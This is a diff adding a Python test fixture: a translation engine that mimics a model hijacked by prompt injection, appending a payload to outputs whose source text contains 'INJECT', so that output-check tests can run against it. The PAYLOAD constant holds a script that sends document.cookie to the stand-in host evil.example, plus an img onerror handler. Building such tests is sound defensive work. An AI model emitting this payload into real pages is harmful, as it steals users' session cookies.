@@ -1,0 +1,44 @@
+"""A hijacked engine for the output-check tests: the benchmarks' cost-model engine, except that
+a source text containing ``INJECT`` comes back with a ``<script>`` and an ``onerror`` handler
+appended, as a model talked into it by its input would answer. Workers load it as a plugin::
+
+    MT_ENGINE=tests.integration.injecting_engine:ScriptInjectingEngine  (PYTHONPATH = repo root)
+"""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+from concurrent.futures import Future
+
+from bench.costengine import CostModelEngine
+from workers.engines.base import Translation, TranslationRequest
+
+MARKER = "INJECT"
+PAYLOAD = '<script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>'
+
+
+def _hijack(request: TranslationRequest, out: str | Translation) -> Translation:
+    text = out.text if isinstance(out, Translation) else out
+    return Translation(f"{text} {PAYLOAD}" if MARKER in request.text else text)
+
+
+class ScriptInjectingEngine(CostModelEngine):
+    name = "injecting"
+
+    def submit(self, request: TranslationRequest) -> Future[str | Translation]:
+        inner = super().submit(request)
+        outer: Future[str | Translation] = Future()
+
+        def done(f: Future[str | Translation]) -> None:
+            exc = f.exception()
+            if exc is not None:
+                outer.set_exception(exc)
+            else:
+                outer.set_result(_hijack(request, f.result()))
+
+        inner.add_done_callback(done)
+        return outer
+
+    def translate(self, requests: Sequence[TranslationRequest]) -> list[Translation]:
+        outs = super().translate(requests)
+        return [_hijack(r, o) for r, o in zip(requests, outs, strict=True)]
